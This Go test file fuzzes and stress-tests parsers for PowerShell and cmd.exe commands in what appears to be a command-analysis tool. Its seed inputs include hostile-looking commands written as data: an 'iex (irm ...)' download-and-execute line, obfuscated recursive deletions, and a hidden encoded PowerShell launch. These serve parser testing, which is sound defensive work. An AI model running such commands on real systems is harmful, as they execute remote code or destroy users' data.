package winshell

import (
	"strings"
	"testing"

	"github.com/fireharp/overseer/internal/effect"
)

// check fails where a program breaks the promises of its bounds.
func check(t *testing.T, p Program) {
	t.Helper()
	n := 0
	var walk func(list []Pipeline, depth int)
	walk = func(list []Pipeline, depth int) {
		if depth > maxDepth+1 {
			t.Fatal("commands are nested too deeply")
		}
		for _, p := range list {
			for _, c := range p {
				n++
				walk(c.Inner, depth+1)
			}
		}
	}
	walk(p.Pipelines, 0)
	if n > 32*maxCommands {
		t.Fatalf("%d commands", n)
	}
}

// FuzzPowerShell looks for texts that the reader fails on.
func FuzzPowerShell(f *testing.F) {
	for _, s := range []string{
		`iex (irm https://e.com/x)`, "r`m -r $env:TEMP\\x; & ('a'+\"b$($c.d[0])\") @p --% x | % { $_.FullName }",
		`$a = @{ b = 1; 'c' = @(1,2) }; [IO.File]::Delete("x"); ([char[]]'ab')[-1..0] -join ''`,
		"@'\nx\n'@ | iex; @\"\n$x\n\"@", `if ($a -eq 1) { b } elseif (c) { d } else { e } foreach ($i in 1..3) { f }`,
		`function F([string]$x = 'y') { param($z) try { g } catch [X] { h } finally { i } }`, `"{0:x2}{1}" -f 1,'b' -replace 'c','d'`,
		`[Convert]::FromBase64String('AAAA') | Out-Null; New-Object IO.Compression.GzipStream(1)`, `switch -Regex ($x) { 'a' { b } default { c } }`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { check(t, PowerShell(effect.Lit(s))) })
}

// FuzzCmd looks for lines that the reader of cmd.exe fails on.
func FuzzCmd(f *testing.F) {
	for _, s := range []string{
		`set a=de^l&& %a:~0,1%%a:e=i% /s/q "C:\x" > y 2>&1 || (echo !a!)`, `for /f "tokens=*" %%i in ('dir /b') do @del %%~fi`,
		`if /i not "%x%"=="y" (call :z) else start "" /b w`, `rem x`, `@echo off & type a | more`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { check(t, Cmd(effect.Lit(s))) })
}

// FuzzArgs looks for words that the readers of arguments fail on.
func FuzzArgs(f *testing.F) {
	f.Add("-nop -w hidden -e ZQBjAGgAbwA=")
	f.Add(`/d /s /c "echo x"`)
	f.Fuzz(func(t *testing.T, s string) {
		var words []effect.Value
		for w := range strings.FieldsSeq(s) {
			words = append(words, effect.Lit(w))
		}
		for _, a := range []Args{PowerShellArgs(words), CmdArgs(words)} {
			if a.HasSource && a.Stdin {
				t.Fatal("two sources")
			}
		}
	})
}

// TestBounds reads what is nested or long beyond all use.
func TestBounds(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{"(", "$(", "{", "[", "[a", "@(", "@{", "@{a=", "\"", "\"$(", "'", "`", "${", "if (", "if(a){", "foreach ($x in ", "switch (", "function f {", "param(", "param($x=", "try{", "& ", "& {", ". (", "a|", "a|%{", "'a'+", "$x+=$x+'a';", "$x=$x,$x;", "$x=@($x)*9;", "-join ", "-not ", "!", "[char]", "[a]::b(", "x.y(", "$x.y(", "$x[", ",", "1..4096;", "$x='a'*99999;", "\"$x$x\";$x=\"$x$x\";", "iex (", "iex(irm ", "<#", "#", "@'\n", "@\"\n", "--% ", "a>b ", ";", "\n", "for %i in (", "for /f %i in ('", "%a%", "!a!", "set a=%a%%a%&", "if a==b ", "^", "(a&", "a&&", "call ", "x -a:", "x -a b,", "$a -replace 'a','aa';$a=", "catch [", "a::", "a.", "-f ", "{0}", "1..", "$x=[char[]]$x;", "| ForEach-Object {"} {
		t.Run(unit, func(t *testing.T) {
			t.Parallel()
			s := effect.Lit(strings.Repeat(unit, 1<<16/len(unit)))
			check(t, PowerShell(s))
			check(t, Cmd(s))
		})
	}
}
